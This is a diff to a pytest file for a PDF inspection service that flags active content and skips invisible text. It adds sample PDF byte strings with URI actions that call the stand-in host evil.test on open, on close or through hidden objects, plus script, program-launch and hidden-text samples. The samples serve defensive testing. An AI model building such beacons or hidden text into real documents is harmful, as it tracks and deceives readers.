@@ -14,6 +14,7 @@ from pypdf.annotations import Link
 from pypdf.generic import Fit
 
 from backend_lambda.services.inspection import Limits, Reason
+from backend_lambda.services.inspection.pdf_seen import UNDRAWN
 from tests.backend_lambda.services.making_files import (
     HELLO,
     PDF,
@@ -35,6 +36,7 @@ from tests.backend_lambda.services.making_files import (
 )
 
 SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
+CALL = b"<</S/URI/URI(http://evil.test/?id=7)>>"
 
 
 def test_an_honest_report_is_read() -> None:
@@ -56,6 +58,17 @@ HONEST = {
     "two updates": updated(updated(report())),
     "links and outlines": linked(),
     "opens on a page": one_page(catalog=b"/OpenAction[3 0 R/Fit]"),
+    "goes to a page, then prints": one_page(
+        catalog=b"/OpenAction 6 0 R",
+        more={6: b"<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R]>>", 7: b"<</S/Named/N/Print>>"},
+    ),
+    "opens on a place with a name": one_page(catalog=b"/OpenAction(chapter)"),
+    "a link to the web": one_page(
+        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org)>>>>]"
+    ),
+    "a font that is called AA": one_page(
+        resources=b"/Font<</AA<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
+    ),
     "goes to a page": one_page(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
     "a form without scripts": one_page(
         catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(name)/V(Someone)>>"}
@@ -93,6 +106,28 @@ ACTIVE: dict[str, bytes] = {
     "a script that nothing leads to": one_page(more={6: SCRIPT}),
     "a script in a form": one_page(
         catalog=b"/AcroForm<</Fields[6 0 R]>>", more={6: b"<</FT/Tx/T(a)/AA<</K" + SCRIPT + b">>>>"}
+    ),
+    "a call home when opened": one_page(catalog=b"/OpenAction<</S/URI/URI(http://evil.test/?id=7)>>"),
+    "a call home when opened, elsewhere": one_page(
+        catalog=b"/OpenAction 6 0 R", more={6: b"<</S 7 0 R/URI(http://evil.test)>>", 7: b"/URI"}
+    ),
+    "a call home after going to a page": one_page(
+        catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Named/N/NextPage/Next[6 0 R]>>>>",
+        more={6: CALL},
+    ),
+    "actions in a ring": one_page(catalog=b"/OpenAction 6 0 R", more={6: b"<</S/GoTo/Next 6 0 R>>"}),
+    "an unknown action when opened": one_page(catalog=b"/OpenAction<</S/Thread/F(\\\\\\\\host)>>"),
+    "a call home on a page": one_page(page=b"/AA<</O" + CALL + b">>"),
+    "a call home on a page, elsewhere": one_page(page=b"/A#41 6 0 R", more={6: b"<</O 7 0 R>>", 7: CALL}),
+    "a call home by a pointer": one_page(
+        page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AA<</E" + CALL + b">>>>]"
+    ),
+    "a call home when the file is closed": one_page(catalog=b"/AA<</WC" + CALL + b">>"),
+    "a call home that no table knows": one_page(
+        hidden=b"9 0 obj\n<</Type/Catalog/OpenAction" + CALL + b">>\nendobj\n"
+    ),
+    "a page's call home that no table knows": one_page(
+        hidden=b"9 0 obj\n<</Type/Page/AA <</O" + CALL + b">>>>\nendobj\n"
     ),
     "a form of XML": one_page(catalog=b"/AcroForm<</XFA(x)>>"),
     "a program that is started": one_page(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"),
@@ -396,6 +431,10 @@ def test_a_photograph_in_a_report_may_not_say_where() -> None:
     assert reason(packed, PDF) is Reason.LOCATION
 
 
+FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>"
+DRAWS = b"/Font<</F1 5 0 R>>/XObject<</F 6 0 R>>"
+
+
 # --- Text --------------------------------------------------------------------------------------------
 
 
@@ -441,6 +480,125 @@ def test_what_nobody_sees_is_taken_out_of_the_text() -> None:
     assert found(unicode_text("می\u200cروم"), PDF).text.replace("\n", "") != ""
 
 
+DRAWN = b"BT /F1 12 Tf 72 700 Td (seen) Tj ET "
+UNSEEN: dict[str, bytes] = {
+    "not drawn": b"BT /F1 12 Tf 3 Tr 72 600 Td (order) Tj ET",
+    "only clipped with": b"BT /F1 12 Tf 7 Tr 72 600 Td (order) Tj ET",
+    "set for the whole page": b"3 Tr BT /F1 12 Tf 72 600 Td (order) Tj ET",
+    "between others": b"BT /F1 12 Tf 72 600 Td 3 Tr (order) Tj ET q 0 Tr Q BT 72 500 Td (order) Tj ET",
+    "in an array": b"BT /F1 12 Tf 3 Tr 72 600 Td [(or) -20 (der)] TJ ET",
+    "on a new line": b"BT /F1 12 Tf 3 Tr 72 600 Td (order) ' 0 0 (order) \" ET",
+    "tiny": b"BT /F1 0.1 Tf 72 600 Td (order) Tj ET",
+    "no size at all": b"BT /F1 0 Tf 72 600 Td (order) Tj ET",
+    "made tiny by the text's scale": b"BT /F1 12 Tf .1 0 0 .1 72 600 Tm (order) Tj ET",
+    "made tiny by the page's scale": b"q .1 0 0 .1 0 0 cm BT /F1 12 Tf 720 6000 Td (order) Tj ET Q",
+    "far off": b"BT /F1 12 Tf 5000 5000 Td (order) Tj ET",
+    "left of the page": b"BT /F1 12 Tf -900 600 Td (order) Tj ET",
+    "right of it": b"BT /F1 12 Tf 640 600 Td (order) Tj ET",
+    "below it": b"BT /F1 12 Tf 72 -40 Td (order order order order order order) Tj ET",
+    "above it": b"BT /F1 12 Tf 72 820 Td (order) Tj ET",
+    "on a line below it": b"BT /F1 12 Tf 100 TL 72 50 Td (order) ' ET",
+    "turned, off it": b"BT /F1 12 Tf 0 1 -1 0 700 72 Tm (order) Tj ET",
+    "moved off it": b"q 1 0 0 1 0 9000 cm " + DRAWN.replace(b"seen", b"order") + b"Q",
+}
+SEEN: dict[str, bytes] = {
+    "outlined": b"BT /F1 12 Tf 1 Tr 72 600 Td (order) Tj ET",
+    "drawn and clipped with": b"BT /F1 12 Tf 6 Tr 72 600 Td (order) Tj ET",
+    "drawn again": b"BT /F1 12 Tf 3 Tr 72 600 Td 0 Tr (order) Tj ET",
+    "drawn again after a restore": b"q 3 Tr Q BT /F1 12 Tf 72 600 Td (order) Tj ET",
+    "small print": b"BT /F1 4 Tf 72 600 Td (order) Tj ET",
+    "large by the text's scale": b"BT /F1 1 Tf 12 0 0 12 72 600 Tm (order) Tj ET",
+    "large by the page's scale": b"q 12 0 0 12 0 0 cm BT /F1 1 Tf 6 50 Td (order) Tj ET Q",
+    "upside down": b"q 1 0 0 -1 0 792 cm BT /F1 12 Tf 1 0 0 -1 72 192 Tm (order) Tj ET Q",
+    "turned": b"BT /F1 12 Tf 0 1 -1 0 300 72 Tm (order) Tj ET",
+    "from outside onto the page": b"BT /F1 12 Tf -40 600 Td (the order) Tj ET",
+    "far along a line that began outside": b"BT /F1 12 Tf -400 600 Td (" + b"x" * 60 + b") Tj (order) Tj ET",
+    "at the top": b"BT /F1 12 Tf 72 790 Td (order) Tj ET",
+}
+
+
+@pytest.mark.parametrize("name", UNSEEN)
+def test_letters_that_nobody_could_see_are_not_read(name: str) -> None:
+    result = found(one_page(stream(DRAWN + UNSEEN[name] + b" 0 Tr " + DRAWN)), PDF)
+    assert (result.reason, result.text_complete) == (None, True)
+    assert "order" not in result.text
+    assert result.text.split() == ["seen", "seen"]
+
+
+@pytest.mark.parametrize("name", SEEN)
+def test_letters_that_are_drawn_are_read(name: str) -> None:
+    assert "order" in found(one_page(stream(SEEN[name])), PDF).text
+
+
+@pytest.mark.parametrize(
+    ("page", "content", "read"),
+    [
+        (b"/MediaBox[1000 1000 1612 1792]", b"BT /F1 12 Tf 1072 1700 Td (order) Tj ET", True),
+        (b"/MediaBox[1000 1000 1612 1792]", b"BT /F1 12 Tf 72 700 Td (order) Tj ET", False),
+        (b"/MediaBox[612 792 0 0]", HELLO.replace(b"Hello", b"order"), True),
+        (b"/CropBox[0 0 612 300]", HELLO.replace(b"Hello", b"order"), False),
+        (b"/MediaBox[0 0 0 0]", HELLO.replace(b"Hello", b"order"), True),
+        (b"/MediaBox(none)", HELLO.replace(b"Hello", b"order"), True),
+        (b"/UserUnit 72/MediaBox[0 0 9 11]", b"BT /F1 .2 Tf 1 9 Td (order) Tj ET", True),
+    ],
+)
+def test_where_the_page_is(page: bytes, content: bytes, *, read: bool) -> None:
+    made = one_page(stream(content)).replace(
+        b"/MediaBox[0 0 612 792]", page if b"MediaBox" in page else b"/MediaBox[0 0 612 792]" + page
+    )
+    assert ("order" in found(made, PDF).text) is read
+
+
+@pytest.mark.parametrize(
+    ("outside", "form", "read"),
+    [
+        (b"/F Do", b"", True),
+        (b"q 3 Tr /F Do Q", b"", False),
+        (b"q .1 0 0 .1 0 0 cm /F Do Q", b"", False),
+        (b"q 1 0 0 1 0 9000 cm /F Do Q", b"", False),
+        (b"/F Do", b"/Matrix[.1 0 0 .1 0 0]", False),
+        (b"/F Do", b"/Matrix[1 0 0 1 0 -9000]", False),
+        (b"q 1 0 0 1 0 9000 cm /F Do Q", b"/Matrix[1 0 0 1 0 -9000]", True),
+        (b"q 3 Tr Q /F Do", b"", True),
+    ],
+)
+def test_letters_in_a_form_are_where_it_is_drawn(outside: bytes, form: bytes, *, read: bool) -> None:
+    inside = {6: stream(b"BT /F1 12 Tf 72 600 Td (order) Tj ET", FORM + form)}
+    result = found(one_page(stream(outside + b" " + DRAWN), resources=DRAWS, more=inside), PDF)
+    assert ("order" in result.text) is read
+    assert "seen" in result.text
+
+
+SCANNED = b"/XObject<</Im 6 0 R>>/Font<</F1 5 0 R>>"
+PICTURE = {6: stream(jpeg(), b"/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/Filter/DCTDecode")}
+
+
+def test_the_letters_behind_a_scan_are_kept_and_marked() -> None:
+    scanned = stream(b"q 612 0 0 792 0 0 cm /Im Do Q BT 3 Tr /F1 12 Tf 72 700 Td (Sodium 140) Tj ET")
+    result = found(one_page(scanned, resources=SCANNED, more=PICTURE), PDF)
+    assert result.text == f"{UNDRAWN}\nSodium 140"
+    illustrated = stream(b"q 9 0 0 9 0 0 cm /Im Do Q " + DRAWN)
+    assert found(one_page(illustrated, resources=SCANNED, more=PICTURE), PDF).text == "seen"
+    off_the_page = stream(b"BT 3 Tr /F1 12 Tf 72 -700 Td (order) Tj ET")
+    assert found(one_page(off_the_page, resources=SCANNED, more=PICTURE), PDF).text == ""
+
+
+@pytest.mark.parametrize(
+    "odd",
+    [
+        b"(x) Tr /F1 (x) Tf Td Tj TJ [] TJ [[] (x) null] TJ ' \" Do /No Do (x) Do Q Q Q",
+        b"1e400 0 0 1e400 0 0 cm BT /F1 1e400 Tf 1 0 0 1 1e999 -1e999 Tm (x) Tj ET",
+        b"q " * 5000 + b"BT /F1 12 Tf 72 600 Td (x) Tj ET",
+        b"null null Tf /F1 null Tf 1 2 3 Tm BT (x) Tj ET",
+        b"999999999999999999999999999999999999999999 Tr (x) Tj",
+    ],
+)
+def test_operators_that_make_no_sense_break_nothing(odd: bytes) -> None:
+    result = found(one_page(stream(DRAWN + odd)), PDF)
+    assert result.reason is None
+    assert "seen" in result.text
+
+
 def test_text_stops_at_the_limit_and_says_so() -> None:
     long = one_page(stream(b"BT /F1 12 Tf 72 700 Td " + b"(0123456789) Tj " * 300 + b"ET"))
     assert len(found(long, PDF).text) == 3000
@@ -453,10 +611,6 @@ def test_pages_that_are_too_much_work_are_left_out_of_the_text() -> None:
     assert len(costly) > 4_000_000
     result = found(costly, PDF)
     assert (result.reason, result.text, result.text_complete) == (None, "", False)
-
-
-FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>"
-DRAWS = b"/Font<</F1 5 0 R>>/XObject<</F 6 0 R>>"
 
 
 def test_forms_are_read_and_their_work_is_counted() -> None:
